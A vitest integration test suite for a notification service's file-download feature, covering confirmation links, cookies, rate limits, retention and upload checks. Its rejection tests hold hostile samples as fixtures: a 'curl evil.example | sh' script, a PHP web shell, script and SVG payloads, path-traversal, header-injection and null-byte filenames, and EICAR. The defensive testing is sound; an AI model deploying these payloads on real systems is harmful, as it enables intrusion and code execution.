import { mkdirSync, readdirSync, rmSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createClamdScanner } from "../../src/platform/clamd/clamd-scanner.ts";
import { blobKeyOf } from "../../src/records/documents/document.ts";
import { sandboxScanner } from "../../src/sandbox/scanner/sandbox-scanner.ts";
import { type Clamd, EICAR, hasClamd, startClamd } from "../peers/clamd.ts";
import { type ApiAnswer, startApi, type TestApi } from "../support/api.ts";
import { CSV, DOCM, DOCX, ELF, EXE, GIF, JPEG, ODT, oldOffice, PDF, PNG, XLSX, zip } from "../support/files.ts";
import { createWorld, type World, type WorldService } from "../support/world.ts";

const RECIPIENT = "Ada@Example.org";
const CONTACT = "https://libraries.northwold.example/help";
const DAY_MS = 86_400_000;
const WEEK_MS = 7 * DAY_MS;
const COOKIE = "document_access_signed_data";

let world: World;
let api: TestApi;
let service: WorldService;
let templateId: string;
let clamd: Clamd | undefined;

beforeAll(async () => {
  clamd = hasClamd ? await startClamd() : undefined;
  const scanner = clamd ? createClamdScanner({ path: clamd.socket }) : sandboxScanner;
  const origins = { api: undefined, admin: undefined, documents: undefined };
  world = await createWorld({ origins, scanning: { scanner, acceptsUnscanned: false, sandboxScanner } });
  api = await startApi(world.app);
  service = await world.service({ name: "Parks & <Gardens>", filesContact: CONTACT });
  ({ templateId } = await world.template(service, { channel: "email", body: "Download it: ((link))" }));
});
afterAll(async () => {
  await api.close();
  await world.close();
  await clamd?.stop();
});

function send(link: unknown, change: object = {}, as = service): Promise<ApiAnswer> {
  const body = { email_address: RECIPIENT, template_id: templateId, personalisation: { link }, ...change };
  return api.post("/v2/notifications/email", body, { as });
}

function fileOf(bytes: Buffer | string, more: object = {}): object {
  return { file: Buffer.from(bytes as string).toString("base64"), ...more };
}

/** A file that was sent, by its link. */
async function sent(bytes: Buffer | string, more: object = {}): Promise<{ link: URL; id: string }> {
  const answer = await send(fileOf(bytes, more));
  expect(answer.json).toMatchObject({ content: { body: expect.stringContaining("Download it: http") } });
  return { link: new URL(answer.json.content.body.replace("Download it: ", "")), id: answer.json.id };
}

/** As a browser without redirects, with what cookies it has. */
function visit(url: URL | string, init: RequestInit & { cookie?: string } = {}): Promise<Response> {
  const headers = { ...(init.cookie ? { cookie: init.cookie } : {}) };
  return fetch(url, { redirect: "manual", headers, ...init });
}

function page(link: URL, name: string): URL {
  const url = new URL(link);
  url.pathname += `/${name}`;
  return url;
}

function giveAddress(link: URL, address: string): Promise<Response> {
  return visit(page(link, "confirm-email-address"), {
    method: "POST",
    body: new URLSearchParams({ email_address: address }),
  });
}

async function confirmed(link: URL): Promise<string> {
  const [cookie = ""] = (await giveAddress(link, RECIPIENT)).headers.getSetCookie();
  return cookie.split(";")[0] ?? "";
}

/** The file's own address, as the download page has it. */
async function fileUrlOf(link: URL, cookie = ""): Promise<string> {
  const html = await (await visit(page(link, "download"), { cookie })).text();
  return /href="(http[^"]+\/documents\/[^"]+)"/.exec(html)?.[1]?.replaceAll("&amp;", "&") ?? "";
}

async function titleOf(response: Response): Promise<string> {
  return /<title>(.*)<\/title>/.exec(await response.text())?.[1] ?? "";
}

async function documentOf(link: URL): Promise<{ id: string; downloads: number; availableUntil: string }> {
  const id = Buffer.from(link.pathname.split("/")[3] ?? "", "base64url").toString("hex");
  const [row] = await world.app.db.query<{ id: string; downloads: number; availableUntil: string }>`
    select d.id, d.downloads, d.available_until::text from documents d where d.id = ${id}::uuid`;
  if (!row) throw new Error("the document is not in the database");
  return row;
}

function storedFiles(): string[] {
  return readdirSync(world.filesFolder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ name }) => name);
}

describe("a file in an email", () => {
  it("becomes a link, of which what is kept has no key", async () => {
    const { link, id } = await sent(PDF, { filename: "report.pdf" });
    expect(link.href).toMatch(/\/d\/[\w-]{22}\/[\w-]{22}\?key=[\w-]{43}$/);
    const shown = await api.get(`/v2/notifications/${id}`, { as: service });
    expect(shown.json.body).toBe(`Download it: ${link.origin}${link.pathname}`);
    expect(storedFiles()).toContain((await documentOf(link)).id);
  });

  it("is asked for by its recipient, who gives the address, and gets it byte for byte", async () => {
    const { link } = await sent(PDF, { filename: "report.pdf" });
    const landing = await visit(link);
    expect([landing.status, landing.headers.get("referrer-policy"), landing.headers.get("x-robots-tag")]).toEqual([
      200,
      "no-referrer",
      "noindex, nofollow",
    ]);
    const html = await landing.text();
    expect(html).toContain("Parks &amp; &lt;Gardens&gt; sent you a file to download.");
    expect(html).toContain(`/confirm-email-address${link.search}`);
    const wrong = await giveAddress(link, "eve@example.org");
    expect(wrong.status).toBe(400);
    const told = await wrong.text();
    expect(told).toContain("This is not the email address the file was sent to");
    expect(told).toContain('value="eve@example.org"');
    const right = await giveAddress(link, " ADA@example.org ");
    expect([right.status, right.headers.get("location")]).toEqual([303, `${link.pathname}/download${link.search}`]);
    const cookies = right.headers.getSetCookie();
    expect(cookies.map((cookie) => / Path=([^;]+);/.exec(cookie)?.[1])).toEqual([
      link.pathname,
      expect.stringMatching(/^\/services\/[\da-f-]{36}\/documents\/[\da-f-]{36}\.pdf$/),
    ]);
    for (const cookie of cookies) expect(cookie).toMatch(/Max-Age=2592000; HttpOnly; SameSite=Lax$/);
    const cookie = await confirmed(link);
    const download = await (await visit(page(link, "download"), { cookie })).text();
    expect(download).toMatch(/Download this PDF \(1 KB\) to your device/);
    expect(download).toMatch(/available to download until \d{1,2} \w+ \d{4}\./);
    expect(download).toContain(`<a href="${CONTACT}"`);
    const file = await visit(await fileUrlOf(link, cookie), { cookie });
    expect(Buffer.from(await file.arrayBuffer())).toEqual(PDF);
  });

  it("is not given without the address, at any of its addresses", async () => {
    const { link } = await sent(PDF, { filename: "report.pdf" });
    const other = await sent(PDF, { filename: "other.pdf" });
    const file = await fileUrlOf(link, await confirmed(link));
    for (const cookie of ["", `${COOKIE}=1.${"a".repeat(43)}`, `${COOKIE}=x`, await confirmed(other.link)]) {
      const answer = await visit(file, { cookie });
      expect([answer.status, answer.headers.get("location")]).toEqual([303, link.pathname + link.search]);
      expect((await visit(page(link, "download"), { cookie })).headers.get("location")).toContain(
        "confirm-email-address",
      );
    }
    expect((await documentOf(link)).downloads).toBe(0);
  });

  it("asks for no address where its service said so", async () => {
    const { link } = await sent(CSV, { filename: "fines.csv", confirm_email_before_download: false });
    expect(await (await visit(link)).text()).toContain(`${link.pathname}/download${link.search}`);
    const file = await visit(await fileUrlOf(link));
    expect(Buffer.from(await file.arrayBuffer())).toEqual(CSV);
    expect((await giveAddress(link, "anybody@example.org")).status).toBe(303);
  });

  it("counts its downloads, and not the looks at it", async () => {
    const { link } = await sent(CSV, { confirm_email_before_download: false });
    const file = await fileUrlOf(link);
    await visit(file, { method: "HEAD" });
    await visit(file);
    await visit(file);
    expect((await documentOf(link)).downloads).toBe(2);
  });

  it("is asked for no more than fifty times in five minutes, by address or over the API", async () => {
    const { link } = await sent(PDF);
    const file = (await documentOf(link)).id;
    const path = `/services/${service.id}/documents/${file}/authenticate`;
    const body = { key: link.searchParams.get("key"), email_address: "eve@example.org" };
    for (let n = 0; n < 25; n += 1) {
      expect((await giveAddress(link, "eve@example.org")).status).toBe(400);
      expect((await api.post(path, body)).status).toBe(403);
    }
    const page = await giveAddress(link, RECIPIENT);
    expect(page.status).toBe(429);
    expect(Number(page.headers.get("retry-after"))).toBeGreaterThan(200);
    expect(await page.text()).toMatch(/Try again in [45] minutes/);
    const answer = await api.post(path, { ...body, email_address: RECIPIENT });
    expect([answer.status, answer.headers["retry-after"]]).toEqual([429, expect.any(String)]);
    world.clock.advance(301_000);
    expect((await giveAddress(link, RECIPIENT)).status).toBe(303);
    world.clock.advance(-301_000);
  });
});

describe("how a file is given", () => {
  it.each<[string, Buffer, object, string, string]>([
    [
      "a PDF",
      PDF,
      { filename: "a report (2).pdf" },
      "application/pdf",
      `inline; filename="a report (2).pdf"; filename*=UTF-8''a%20report%20%282%29.pdf`,
    ],
    ["a picture", PNG, { filename: "map.png" }, "image/png", `inline; filename="map.png"; filename*=UTF-8''map.png`],
    [
      "rows",
      CSV,
      { filename: "fines.csv" },
      "text/csv",
      `attachment; filename="fines.csv"; filename*=UTF-8''fines.csv`,
    ],
    [
      "text",
      Buffer.from("hello"),
      { filename: 'a"b;é.txt' },
      "text/plain",
      `attachment; filename="a_b__.txt"; filename*=UTF-8''a%22b%3B%C3%A9.txt`,
    ],
    [
      "RTF",
      Buffer.from("{\\rtf1 a}"),
      { filename: "a.rtf" },
      "text/rtf",
      `attachment; filename="a.rtf"; filename*=UTF-8''a.rtf`,
    ],
  ])("%s", async (_, bytes, more, type, disposition) => {
    const { link } = await sent(bytes, { ...more, confirm_email_before_download: false });
    const { headers } = await visit(await fileUrlOf(link));
    expect(
      Object.fromEntries(
        ["content-type", "content-disposition", "x-content-type-options", "referrer-policy", "x-robots-tag"].map(
          (name) => [name, headers.get(name)],
        ),
      ),
    ).toEqual({
      "content-type": type,
      "content-disposition": disposition,
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
      "x-robots-tag": "noindex, nofollow",
    });
    expect(headers.get("content-security-policy")).toContain("default-src 'none'");
  });

  it.each<[string, Buffer | string, object, string]>([
    ["a document", DOCX, {}, ".docx"],
    ["a workbook", XLSX, {}, ".xlsx"],
    ["an open document", ODT, {}, ".odt"],
    ["an old document", oldOffice("WordDocument"), {}, ".doc"],
    ["a photograph", JPEG, {}, ".jpeg"],
    ["JSON", '{"a":1}', {}, ".json"],
    ["text", "hello", {}, ".txt"],
    ["text that is said to be rows", "a,b", { is_csv: true }, ".csv"],
  ])("%s without a name is called after itself", async (_, bytes, more, extension) => {
    const { link } = await sent(bytes, { ...more, confirm_email_before_download: false });
    const { headers } = await visit(await fileUrlOf(link));
    const { id } = await documentOf(link);
    expect(headers.get("content-disposition")).toContain(`filename="${id}${extension}"`);
  });
});

describe("a file that is no longer there to be had", () => {
  it("is there through its last day, and then says whom to ask", async () => {
    const { link } = await sent(CSV, { confirm_email_before_download: false, retention_period: "1 week" });
    const file = await fileUrlOf(link);
    const toNoonMs = DAY_MS / 2 - (world.clock.now().getTime() % DAY_MS); // far from where days end, in summer and in winter
    world.clock.advance(WEEK_MS + toNoonMs);
    expect((await visit(link)).status).toBe(200);
    world.clock.advance(DAY_MS);
    for (const url of [link, page(link, "download"), file]) {
      const answer = await visit(url);
      expect(answer.status).toBe(410);
      expect(await answer.text()).toContain(CONTACT);
    }
    const check = await visit(file.replace(/\.txt\?/, "/check?"));
    expect([check.status, await check.json()]).toEqual([410, { error: "The document is no longer available" }]);
    world.clock.advance(-WEEK_MS - toNoonMs - DAY_MS);
  });

  it.each([
    ["26 weeks", {}, 26],
    ["78 weeks", { retention_period: "78 weeks" }, 78],
  ])("is there for %s", async (_, more, weeks) => {
    const { link } = await sent(CSV, more);
    const days = (Date.parse((await documentOf(link)).availableUntil) - world.clock.now().getTime()) / 86_400_000;
    expect(Math.ceil(days)).toBeGreaterThanOrEqual(weeks * 7);
    expect(Math.floor(days)).toBeLessThanOrEqual(weeks * 7);
  });

  it("is refused while its service blocks it", async () => {
    const { link } = await sent(CSV, { confirm_email_before_download: false });
    const file = await fileUrlOf(link);
    await world.app.db.query`update documents set blocked_at = now() where id = ${(await documentOf(link)).id}`;
    for (const url of [link, file])
      expect([(await visit(url)).status, await titleOf(await visit(url))]).toEqual([
        403,
        "You cannot download this file",
      ]);
    const check = await visit(file.replace(/\.txt\?/, "/check?"));
    expect([check.status, await check.json()]).toEqual([403, { error: "Access to the document has been blocked" }]);
  });

  it("is not shown as anything else when the store has lost it, or does not answer", async () => {
    const { link } = await sent(CSV, { confirm_email_before_download: false });
    const [file, { id }] = [await fileUrlOf(link), await documentOf(link)];
    const path = join(world.filesFolder, blobKeyOf(id));
    rmSync(path);
    expect([(await visit(file)).status, await titleOf(await visit(file))]).toEqual([404, "There is no such file"]);
    mkdirSync(path); // What is there cannot be read.
    const answer = await visit(file);
    expect([answer.status, answer.headers.get("retry-after")]).toEqual([503, "60"]);
    expect(await titleOf(answer)).toBe("The file cannot be downloaded at the moment");
    expect((await documentOf(link)).downloads).toBe(0);
  });

  it.each<[string, (link: URL) => string, number, string]>([
    ["without its key", (link) => link.href.replace(/\?.*/, ""), 404, "This link does not work"],
    [
      "with another key",
      (link) => link.href.replace(/key=./, (key) => (key.endsWith("A") ? "key=B" : "key=A")),
      404,
      "This link does not work",
    ],
    ["with half a key", (link) => link.href.slice(0, -10), 404, "This link does not work"],
    [
      "of another service",
      (link) => link.href.replace(/\/d\/[^/]+/, `/d/${Buffer.alloc(16).toString("base64url")}`),
      404,
      "There is no such file",
    ],
    [
      "of another document",
      (link) => link.href.replace(/[^/]+\?/, `${Buffer.alloc(16).toString("base64url")}?`),
      404,
      "There is no such file",
    ],
    ["that is none", (link) => `${link.origin}/d/x/y`, 404, "There is no such file"],
    [
      "to a test document",
      (link) => `${link.origin}/services/${service.id}/documents/test-document`,
      404,
      "There is no such file",
    ],
  ])("or a link %s", async (_, changed, status, title) => {
    const { link } = await sent(CSV);
    const answer = await visit(changed(link));
    expect([answer.status, await titleOf(answer)]).toEqual([status, title]);
  });
});

describe("as Notify's file service answers programs", () => {
  it("a file is uploaded by itself, and read with its key", async () => {
    const body = {
      document: PDF.toString("base64"),
      filename: "report.pdf",
      confirmation_email: RECIPIENT,
      retention_period: "2 weeks",
    };
    const made = await api.post(`/services/${service.id}/documents`, body, { as: service });
    expect([made.status, made.json]).toEqual([
      201,
      {
        status: "ok",
        document: {
          id: expect.stringMatching(/^[\da-f-]{36}$/),
          direct_file_url: expect.stringMatching(
            /\/services\/[\da-f-]{36}\/documents\/[\da-f-]{36}\.pdf\?key=[\w-]{43}$/,
          ),
          url: expect.stringMatching(/\/d\/[\w-]{22}\/[\w-]{22}\?key=[\w-]{43}$/),
          mimetype: "application/pdf",
        },
      },
    ]);
    const { direct_file_url: direct, url } = made.json.document;
    const check = await visit(direct.replace(/\.pdf\?/, "/check?"));
    expect(check.headers.get("cache-control")).toBe("private, max-age=1800");
    expect(await check.json()).toEqual({
      document: {
        direct_file_url: direct,
        confirm_email: true,
        size_in_bytes: PDF.length,
        file_extension: "pdf",
        filename: "report.pdf",
        available_until: (await documentOf(new URL(url))).availableUntil,
      },
    });
    const key = new URL(direct).searchParams.get("key");
    const path = new URL(direct).pathname.replace(/\.pdf$/, "/authenticate");
    const answer = await api.post(path, { key, email_address: RECIPIENT });
    expect([answer.status, answer.json]).toEqual([200, { signed_data: expect.any(String), direct_file_url: direct }]);
    const file = await visit(direct, { cookie: `${COOKIE}=${answer.json.signed_data}` });
    expect(Buffer.from(await file.arrayBuffer())).toEqual(PDF);
  });

  it.each([
    [{}, "No document upload"],
    [{ document: 1 }, "No document upload"],
    [{ document: "%%%" }, "Document is not base64 encoded"],
    [
      { document: "aGk=", filename: "a" },
      "filename `filename` must end with a file extension. For example, filename.csv",
    ],
    [{ document: "aGk=", confirmation_email: "ada" }, "Invalid email address"],
  ])("an upload of %o is refused", async (body, error) => {
    const answer = await api.post(`/services/${service.id}/documents`, body, { as: service });
    expect([answer.status, answer.json]).toEqual([400, { error }]);
  });

  it("an upload is refused without a token, and for another service", async () => {
    const other = await world.service();
    const body = { document: "aGk=" };
    expect((await api.post(`/services/${service.id}/documents`, body)).status).toBe(401);
    expect((await api.post(`/services/${service.id}/documents`, body, { as: other })).status).toBe(403);
  });

  it.each<[{ key?: string; email_address?: string }, number, string]>([
    [{ email_address: RECIPIENT }, 400, "Missing decryption key"],
    [{ key: "x", email_address: RECIPIENT }, 400, "Invalid decryption key"],
    [{ key: Buffer.alloc(32).toString("base64url"), email_address: RECIPIENT }, 400, "Invalid decryption key"],
    [{ key: "real" }, 400, "No email address"],
    [{ key: "real", email_address: "ada" }, 400, "Invalid email address"],
    [{ key: "real", email_address: "eve@example.org" }, 403, "Authentication failure"],
  ])("who says %o is refused", async (body, status, error) => {
    const { link } = await sent(PDF);
    const key = body.key === "real" ? link.searchParams.get("key") : body.key;
    const path = `/services/${service.id}/documents/${(await documentOf(link)).id}/authenticate`;
    const answer = await api.post(path, { ...body, key });
    expect([answer.status, answer.json]).toEqual([status, { error }]);
  });

  it("one who asks after a file without its key learns nothing", async () => {
    const { link } = await sent(PDF);
    const path = `/services/${service.id}/documents/${(await documentOf(link)).id}`;
    expect((await api.get(`${path}/check`)).json).toEqual({ error: "Missing decryption key" });
    expect((await api.get(`${path}/check?key=${"a".repeat(43)}`)).json).toEqual({ error: "Invalid decryption key" });
    expect((await api.get(path)).status).toBe(404);
    const missing = `/services/${service.id}/documents/${service.id}/check?key=${"a".repeat(43)}`;
    expect((await api.get(missing)).json).toEqual({ error: "The requested document could not be found" });
  });
});

const SUPPORTED =
  "Supported types are: '.csv', '.doc', '.docx', '.jpeg', '.jpg', '.json', '.odt', '.pdf', '.png', '.rtf', '.txt', '.xlsx'";
const unsupported = (what: string) => `Unsupported file type '${what}'. ${SUPPORTED}`;
const BAD_NAME = "`filename` cannot contain slashes, control characters or marks that change the direction of text";
const LARGEST = 2 * 1024 * 1024 + 1024;

describe("a file that means harm, or is broken, is refused for what it is, and nothing is kept:", () => {
  it.each<[string, object, string]>([
    ["a program called a PDF", fileOf(EXE, { filename: "report.pdf" }), unsupported("application/x-msdownload")],
    ["a program for Linux called text", fileOf(ELF, { filename: "notes.txt" }), unsupported("application/x-elf")],
    ["a program that says so", fileOf(EXE, { filename: "setup.exe" }), unsupported(".exe")],
    ["a program behind two endings", fileOf(EXE, { filename: "report.pdf.exe" }), unsupported(".exe")],
    ["a program whose name reads backwards", fileOf(EXE, { filename: "report\u202efdp.txt" }), BAD_NAME],
    [
      "a page called text",
      fileOf("<!doctype html><script>alert(1)</script>", { filename: "notes.txt" }),
      unsupported("text/html"),
    ],
    [
      "a page behind a comment and without a name",
      fileOf("<!-- a,b -->\n<iframe src=//evil.example>"),
      unsupported("text/html"),
    ],
    [
      "a picture that runs scripts",
      fileOf("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", { filename: "map.png" }),
      unsupported("image/svg+xml"),
    ],
    [
      "a script for a shell",
      fileOf("#!/bin/sh\ncurl evil.example | sh", { filename: "fines.csv" }),
      unsupported("text/x-script"),
    ],
    [
      "a program for a web server",
      fileOf("<?php system($_GET['c']);", { filename: "notes.txt" }),
      unsupported("text/x-php"),
    ],
    [
      "a document with macros called one without",
      fileOf(DOCM, { filename: "letter.docx" }),
      unsupported("application/vnd.ms-word.document.macroenabled.12"),
    ],
    [
      "an old workbook called a document",
      fileOf(oldOffice("Workbook"), { filename: "letter.doc" }),
      unsupported("application/x-cfb"),
    ],
    [
      "an archive called a document",
      fileOf(zip({ "run.js": "x" }), { filename: "letter.docx" }),
      unsupported("application/zip"),
    ],
    ["a picture of a type that is not sent", fileOf(GIF, { filename: "map.png" }), unsupported("image/gif")],
    [
      "bytes of nothing known",
      fileOf(Buffer.from([0, 1, 2, 3, 255]), { filename: "a.pdf" }),
      unsupported("application/octet-stream"),
    ],
    ["a virus", fileOf(EICAR, { filename: "notes.txt" }), "File did not pass the virus scan"],
    [
      "a virus deep in a document",
      fileOf(zip({ "word/document.xml": "<w/>", "word/x": EICAR }), { filename: "a.docx" }),
      "File did not pass the virus scan",
    ],
    [
      "a virus after two megabytes",
      fileOf(Buffer.concat([Buffer.alloc(LARGEST - 100, "a"), Buffer.from(EICAR)])),
      "File did not pass the virus scan",
    ],
    ["a path", fileOf(CSV, { filename: "../../etc/passwd.csv" }), BAD_NAME],
    ["a name that breaks out of its header", fileOf(CSV, { filename: "a\r\nSet-Cookie: x=1\r\n.csv" }), BAD_NAME],
    ["a name that ends early", fileOf(EXE, { filename: "report.exe\0.pdf" }), BAD_NAME],
    [
      "a name that is too long",
      fileOf(CSV, { filename: `${"a".repeat(97)}.csv` }),
      "`filename` cannot be longer than 100 characters",
    ],
    ["a file that is too large", fileOf(Buffer.alloc(LARGEST + 1, "a")), "Uploaded file exceeds file size limit"],
    ["a file of nothing", { file: "" }, "Document must not be empty"],
    ["what is no base64", { file: "<script>" }, "Document is not base64 encoded"],
    ["base64 for URLs", { file: "_-_-" }, "Document is not base64 encoded"],
    ["base64 with an end in the middle", { file: "aGk=aGk=" }, "Document is not base64 encoded"],
    ["base64 with a hole", { file: "aG%saGk=" }, "Document is not base64 encoded"],
    ["base64 that is cut short", { file: "aGVsbG8" }, "Document is not base64 encoded"],
    [
      "a file in base64 twice over, as a URL",
      { file: `data:text/plain;base64,${Buffer.from("a").toString("base64")}` },
      "Document is not base64 encoded",
    ],
  ])("%s", async (_, file, message) => {
    const before = storedFiles().length;
    const [{ count }] = (await world.app.db.query<{ count: number }>`select count(*) from documents`) as [
      { count: number },
    ];
    const answer = await send(file);
    expect([answer.status, answer.json.errors]).toEqual([400, [{ error: "BadRequestError", message }]]);
    expect(storedFiles()).toHaveLength(before);
    expect(await world.app.db.query`select count(*) from documents`).toEqual([{ count }]);
  });

  it("the largest that may be sent is sent", async () => {
    const { link } = await sent(Buffer.alloc(LARGEST, "a"), { confirm_email_before_download: false });
    expect(await (await visit(await fileUrlOf(link))).text()).toBe("a".repeat(LARGEST));
  });
});

describe("a request with files", () => {
  const twoMegabytes = () => fileOf(Buffer.alloc(2 * 1024 * 1024, "a"), { confirm_email_before_download: false });

  it("may be larger than any other", async () => {
    const personalisation = { link: twoMegabytes(), second: twoMegabytes(), third: twoMegabytes() };
    expect((await send(undefined, { personalisation })).status).toBe(201);
    const text = { personalisation: { link: "x".repeat(6 * 1024 * 1024) } };
    expect((await send(undefined, text)).status).toBe(413);
    const inText = { phone_number: "07700900123", template_id: templateId, personalisation };
    expect((await api.post("/v2/notifications/sms", inText, { as: service })).status).toBe(413);
  });

  it("has ten of them at most, and none larger altogether than fifteen megabytes", async () => {
    const many = Object.fromEntries(Array.from({ length: 11 }, (_, n) => [n === 0 ? "link" : `file${n}`, fileOf("a")]));
    expect((await send(undefined, { personalisation: many })).json.errors[0].message).toBe(
      "An email cannot have more than 10 files",
    );
    const large = Object.fromEntries(Array.from({ length: 6 }, (_, n) => [`file${n}`, twoMegabytes()]));
    expect((await send(undefined, { personalisation: { link: "", ...large } })).status).toBe(413);
  });

  it("is checked for all else first, and for the form of its files before anything about the service", async () => {
    const bad = { file: 1, filename: "a" };
    const unset = await world.service();
    const template = await world.template(unset, { channel: "email", body: "((link)) ((name))" });
    const of = (values: object) =>
      send(undefined, { template_id: template.templateId, personalisation: { link: bad, ...values } }, unset);
    expect((await of({})).json.errors).toEqual([
      { error: "BadRequestError", message: "Missing personalisation: name" },
    ]);
    expect((await of({ name: "x" })).json.errors.map(({ error }: { error: string }) => error)).toEqual([
      "ValidationError",
      "ValidationError",
    ]);
    const well = { link: fileOf("a"), name: "x" };
    expect((await of(well)).json.errors[0].message).toMatch(
      /^Send files by email has not been set up - add contact details/,
    );
  });

  it("keeps nothing when the message is not accepted after all", async () => {
    const poor = await world.service({ dailyLimitEmail: 1, filesContact: CONTACT });
    const template = await world.template(poor, { channel: "email", body: "((link))" });
    const change = { template_id: template.templateId };
    const before = storedFiles().length;
    const answers = await Promise.all(Array.from({ length: 3 }, () => send(fileOf("a"), change, poor)));
    expect(answers.map(({ status }) => status).sort()).toEqual([201, 429, 429]);
    expect(storedFiles()).toHaveLength(before + 1);
  });

  it("to a simulated recipient is checked and keeps nothing", async () => {
    const before = storedFiles().length;
    const answer = await send(fileOf("a"), { email_address: "simulate-delivered@notifications.service.gov.uk" });
    expect(answer.json.content.body).toBe(`Download it: ${api.url}/services/${service.id}/documents/test-document`);
    const refused = await send({ file: 1 }, { email_address: "simulate-delivered@notifications.service.gov.uk" });
    expect(refused.status).toBe(400);
    expect(storedFiles()).toHaveLength(before);
  });

  it("with a test key is kept as any other", async () => {
    const body = { email_address: RECIPIENT, template_id: templateId, personalisation: { link: fileOf("a") } };
    const answer = await api.post("/v2/notifications/email", body, { as: service, with: "test" });
    expect((await visit(answer.json.content.body.replace("Download it: ", ""))).status).toBe(200);
  });

  it("under an Idempotency-Key is kept once, and the repeat is answered with the link as it is kept", async () => {
    const body = { email_address: RECIPIENT, template_id: templateId, personalisation: { link: fileOf("once") } };
    const before = storedFiles().length;
    const again = () =>
      api.post("/v2/notifications/email", body, { as: service, headers: { "Idempotency-Key": "one" } });
    const [first, second] = [await again(), await again()];
    expect(second.json.id).toBe(first.json.id);
    expect(second.json.content.body).toBe(first.json.content.body.replace(/\?key=.*/, ""));
    expect(storedFiles()).toHaveLength(before + 1);
  });

  it("of a template that is nothing but the link is not empty", async () => {
    const template = await world.template(service, { channel: "email", body: "((link))" });
    expect((await send(fileOf("a"), { template_id: template.templateId })).status).toBe(201);
  });
});
